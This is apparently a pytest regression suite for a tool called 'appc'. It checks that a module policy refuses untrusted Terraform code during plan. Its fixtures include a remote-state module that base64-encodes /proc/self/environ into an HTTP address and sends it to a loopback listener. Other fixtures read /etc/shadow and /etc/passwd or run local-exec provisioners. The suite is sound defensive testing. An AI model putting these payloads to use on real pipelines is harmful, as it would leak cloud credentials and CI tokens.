"""Code from an untrusted definition or module must not run during `appc plan` (issue 11, High 2).

The attack, reproduced on the code before the module policy: a platform module with
`data "terraform_remote_state"` on an `http` backend whose address carries
`file("/proc/self/environ")`; `appc plan` made Terraform send the whole process environment
(cloud credentials, a CI token) to a listener on loopback. Now:

- the module policy (composer/catalog/policy.py) refuses it before Terraform starts: exit 1,
  reported at the definition's line, and the listener hears nothing;
- an environment that opts in (`policies.allow`) runs it, but Terraform's environment is an
  allowlist, so a CI token (GITHUB_TOKEN) is not in what the listener receives;
- nested module sources outside the module package (absolute paths, http://) are refused
  before anything is fetched;
- `--untrusted` refuses platform catalogs that no composer.lock covers.
"""

from __future__ import annotations

import base64
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest

from tests.helpers import appc, write
from tests.support.terraform_env import require_terraform

DEFINITION = """
apiVersion: composer.dev/v1alpha1
kind: ComponentDefinition
metadata: {name: innocent}
spec:
  category: resource
  outputs:
    name: {}
  implementations:
    aws-innocent:
      provider: aws
      default: true
      terraform:
        module: modules/innocent
        inputs: {}
"""

EXFILTRATING_MODULE = """
data "terraform_remote_state" "loot" {
  backend = "http"
  config = {
    address = "http://127.0.0.1:%(port)d/${base64encode(file("/proc/self/environ"))}"
  }
}
output "name" { value = "innocent" }
"""

NESTED_SOURCE_MODULE = """
module "helper" {
  source = "%(source)s"
}
output "name" { value = "innocent" }
"""


def project(root: Path, module: str, allow: str = "") -> Path:
    policies = f"\n  policies: {{allow: [{allow}]}}" if allow else ""
    write(root, {
        "app.yaml": "apiVersion: composer.dev/v1alpha1\nkind: Application\nmetadata: {name: trust}\nspec:\n  components:\n    - {name: x, type: innocent}\n",
        "environments/test.yaml": f"apiVersion: composer.dev/v1alpha1\nkind: Environment\nmetadata: {{name: test}}\nspec:\n  cloud: {{provider: aws, region: us-east-1}}\n  kubernetes: {{context: standin, namespace: trust}}{policies}\n",
        "definitions/innocent.yaml": DEFINITION,
        "definitions/modules/innocent/main.tf": module,
    })  # fmt: skip
    return root / "app.yaml"


class Listener:
    """An HTTP server on loopback that records every request path (what an attacker receives)."""

    def __init__(self) -> None:
        paths: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 (http.server's name)
                paths.append(self.path)
                self.send_response(404)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.paths = paths
        self.server = HTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> Listener:
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.server.shutdown()
        self.server.server_close()

    def received(self) -> str:
        out = []
        for p in self.paths:
            try:
                out.append(base64.b64decode(p.strip("/") + "==").decode("utf-8", "replace"))
            except ValueError:
                out.append(p)
        return "\n".join(out)


def test_remote_state_exfiltration_is_refused_before_terraform_runs(tmp_path, moto, kube_clean):
    require_terraform()
    with Listener() as listener:
        app = project(tmp_path, EXFILTRATING_MODULE % {"port": listener.port})
        r = appc("plan", "-f", app, "-e", "test", "--json")
    assert r.code == 1, r.out[-2000:]
    assert listener.paths == [], "Terraform ran the module and sent the environment"
    diags = [e for e in r.events if e.get("type") == "diagnostic"]
    assert any(
        "(remote-state)" in d["summary"] and d["file"].endswith("definitions/innocent.yaml") and d["line"] == 13
        for d in diags
    ), diags
    assert any("(outside-files)" in d["summary"] and "innocent/main.tf:4" in d["detail"] for d in diags), diags
    assert not (tmp_path / ".composer" / "roots").exists() or not list(
        (tmp_path / ".composer" / "roots").rglob("*.tfstate")
    )


def test_an_environment_that_opts_in_runs_it_but_terraform_sees_no_ci_token(tmp_path, moto, kube_clean, monkeypatch):
    require_terraform()
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_appcTestTokenThatMustNotLeak0123456789")
    monkeypatch.setenv("AWS_SHARED_MARKER", "x")
    with Listener() as listener:
        app = project(tmp_path, EXFILTRATING_MODULE % {"port": listener.port}, allow="remote-state, outside-files")
        r = appc("plan", "-f", app, "-e", "test")
    assert listener.paths, f"with the opt-in the module runs (exit {r.code}): {r.out[-1500:]}{r.err[-1500:]}"
    received = listener.received()
    assert "AWS_ACCESS_KEY_ID=" in received  # provider credentials pass: the module runs as designed
    assert "ghp_appcTestTokenThatMustNotLeak" not in received and "GITHUB_TOKEN" not in received


@pytest.mark.parametrize(
    "source",
    [
        "/etc/appc-absolute-module",
        "http://127.0.0.1:%(port)d/module.zip",
        "../../escape",
        "git::http://127.0.0.1:%(port)d/repo.git",
    ],
)
def test_nested_module_sources_outside_the_package_are_refused(tmp_path, source):
    with Listener() as listener:
        app = project(
            tmp_path, NESTED_SOURCE_MODULE % {"source": source % {"port": listener.port} if "%" in source else source}
        )
        r = appc("validate", "-f", app, "-e", "test", "--json")
    assert r.code == 1, r.out[-2000:]
    # Refused by the module policy, or earlier by the package reader (issue 10: a package calls local modules only).
    assert any("(module-sources)" in e.get("summary", "") or " calls " in e.get("summary", "") for e in r.events), (
        r.out[-2000:]
    )
    assert listener.paths == []


def test_provisioners_and_external_data_are_refused_unless_the_definition_opts_in(tmp_path):
    module = 'resource "terraform_data" "x" {\n  provisioner "local-exec" { command = "id" }\n}\ndata "external" "e" { program = ["id"] }\noutput "name" { value = "x" }\n'
    app = project(tmp_path, module)
    r = appc("validate", "-f", app, "-e", "test", "--json")
    assert r.code == 1
    summaries = " ".join(e.get("summary", "") for e in r.events)
    assert "(provisioners)" in summaries and "(external-data)" in summaries
    opted = DEFINITION.replace(
        "  implementations:", "  policy: {allow: [provisioners, external-data]}\n  implementations:"
    )
    write(tmp_path, {"definitions/innocent.yaml": opted})
    r = appc("validate", "-f", app, "-e", "test")
    assert r.code == 0, r.out + r.err


def test_untrusted_refuses_a_catalog_no_lock_covers(tmp_path):
    app = project(tmp_path, 'output "name" { value = "x" }\n')
    r = appc("plan", "-f", app, "-e", "test", "--untrusted", "--json")
    assert r.code == 1
    assert any("unlocked platform catalog" in e.get("summary", "") for e in r.events), r.out
    write(tmp_path, {"definitions/composer.lock": "{}\n"})  # a lock in the catalog directory covers it
    r = appc("validate", "-f", app, "-e", "test")
    assert r.code == 0, r.out + r.err


HOSTILE = {
    "main.tf": """
data "terraform_remote_state" "x" {
  backend = "http"
  config  = { address = "http://127.0.0.1:1/x" }
}
resource "terraform_data" "y" {
  provisioner "local-exec" { command = "id" }
}
module "inside" { source = "./sub" }
module "registry" { source = "hashicorp/x/aws" }
locals {
  fine   = templatefile("${path.module}/x.tpl", {})
  fine2  = fileset("${path.module}/sub", "*.json")
  root   = file("${path.root}/y")
  cwd    = file("${path.cwd}/y")
  up     = file("${path.module}/../../y")
  interp = "x${filebase64(var.p)}"
  glob   = fileset(path.module, "../**")
  doc    = <<EOT
${file("/etc/shadow")}
EOT
}
check "c" {
  data "http" "h" { url = "http://127.0.0.1:1/" }
  assert {
    condition     = true
    error_message = "x"
  }
}
data "external" "e" { program = ["id"] }
terraform {
  backend "s3" {}
}
""",
    "x.tpl": 'a ${file("${path.module}/ok")}\n%{ if file("/proc/self/environ") != "" }x%{ endif }\n',
    "sub/main.tf": 'module "sibling" { source = "../other" }\nlocals { a = file("${path.module}/../x.tpl") }\ndata "local_file" "f" { filename = "/etc/hosts" }\n',
    "j.tf.json": '{"resource": {"terraform_data": {"z": {"provisioner": [{"local-exec": {"command": "id"}}], "input": "${file(\\"/etc/x\\")}"}}}, '
    '"module": {"g": {"source": "git::https://example.com/m.git"}, "n": {"source": "./sub"}}, "terraform": {"backend": {"http": {}}}}',
    "core.tf": 'locals {\n  a = core::file("/etc/passwd")\n}\n',
}


def test_the_policy_finds_each_rule_in_both_syntaxes_and_in_templates():
    from composer.catalog.policy import RULES, UNPARSEABLE, check_module

    found = {(v.rule, v.file, v.line) for v in check_module(sorted((k, v.encode()) for k, v in HOSTILE.items()))}
    expected = {
        ("remote-state", "main.tf", 2), ("provisioners", "main.tf", 7), ("module-sources", "main.tf", 10),
        ("outside-files", "main.tf", 14), ("outside-files", "main.tf", 15), ("outside-files", "main.tf", 16),
        ("outside-files", "main.tf", 17), ("outside-files", "main.tf", 18), ("outside-files", "main.tf", 20),
        ("http-data", "main.tf", 24), ("external-data", "main.tf", 30), ("remote-state", "main.tf", 32),
        ("outside-files", "x.tpl", 2), ("outside-files", "sub/main.tf", 3),
        ("provisioners", "j.tf.json", 1), ("outside-files", "j.tf.json", 1), ("module-sources", "j.tf.json", 1), ("remote-state", "j.tf.json", 1),
        (UNPARSEABLE, "core.tf", None),
    }  # fmt: skip
    assert found == expected, (found - expected, expected - found)
    lifted = check_module(sorted((k, v.encode()) for k, v in HOSTILE.items()), allow=RULES)
    assert [v.rule for v in lifted] == [UNPARSEABLE]  # no opt-in makes an unreadable file checkable
    locked = check_module(
        [("m.tf", b'module "r" { source = "hashicorp/x/aws" }\n')], locked_sources=["hashicorp/x/aws"]
    )
    assert locked == []


def test_the_shipped_modules_pass_the_policy():
    from composer.catalog import read_module
    from composer.catalog.policy import check_module
    from tests.helpers import ROOT

    modules = [p for p in (ROOT / "modules").glob("*/*") if p.is_dir()]
    assert modules
    for path in modules:
        assert check_module(read_module(path, path.name).files) == [], path


def test_terraform_gets_an_allowlisted_environment(tmp_path):
    from composer.runners.terraform import environment_warnings, terraform_environment

    parent = {
        "PATH": "/usr/bin", "HOME": "/home/ci", "https_proxy": "http://proxy:3128", "NO_PROXY": "localhost", "SSL_CERT_FILE": "/ca.pem",
        "AWS_ACCESS_KEY_ID": "AKIA", "GOOGLE_APPLICATION_CREDENTIALS": "/g.json", "ARM_CLIENT_ID": "x", "CLOUDSDK_CORE_PROJECT": "p",
        "AZURE_TENANT_ID": "t", "TF_TOKEN_app_terraform_io": "tok", "LANG": "C.UTF-8", "TZ": "UTC",
        "GITHUB_TOKEN": "ghp_x", "CI_JOB_TOKEN": "y", "NPM_TOKEN": "z", "TF_VAR_db_password": "p", "TF_CLI_ARGS": "-lock=false",
        "DATABASE_URL": "postgres://u:p@h/d", "VAULT_TOKEN": "v",
    }  # fmt: skip
    env = terraform_environment(tmp_path, parent)
    passed = {
        "PATH",
        "HOME",
        "https_proxy",
        "NO_PROXY",
        "SSL_CERT_FILE",
        "AWS_ACCESS_KEY_ID",
        "GOOGLE_APPLICATION_CREDENTIALS",
        "ARM_CLIENT_ID",
        "CLOUDSDK_CORE_PROJECT",
        "AZURE_TENANT_ID",
        "TF_TOKEN_app_terraform_io",
        "LANG",
        "TZ",
    }
    assert passed <= set(env)
    assert not {
        "GITHUB_TOKEN",
        "CI_JOB_TOKEN",
        "NPM_TOKEN",
        "TF_VAR_db_password",
        "TF_CLI_ARGS",
        "DATABASE_URL",
        "VAULT_TOKEN",
    } & set(env)
    assert env["TF_IN_AUTOMATION"] == "1" and env["TF_CLI_CONFIG_FILE"]
    assert (
        terraform_environment(tmp_path, {**parent, "COMPOSER_TERRAFORM_PASS_ENV": "VAULT_TOKEN"})["VAULT_TOKEN"] == "v"
    )
    assert environment_warnings({}) == []
    (warning,) = environment_warnings({"TF_LOG": "DEBUG"})
    assert "TF_LOG is set" in warning and "DEBUG" not in warning


def test_def_validate_applies_the_policy_with_the_definitions_opt_ins(tmp_path):
    project(tmp_path, 'data "http" "x" { url = "http://127.0.0.1:1/" }\noutput "name" { value = "x" }\n')
    definition = tmp_path / "definitions" / "innocent.yaml"
    r = appc("def", "validate", definition, "--json")
    assert r.code == 1
    (diag,) = [e for e in r.events if e.get("type") == "diagnostic"]
    assert "(http-data)" in diag["summary"] and diag["line"] == 13 and "innocent/main.tf:1" in diag["detail"]
    definition.write_text(
        definition.read_text().replace("  implementations:", "  policy: {allow: [http-data]}\n  implementations:")
    )
    assert appc("def", "validate", definition).code == 0
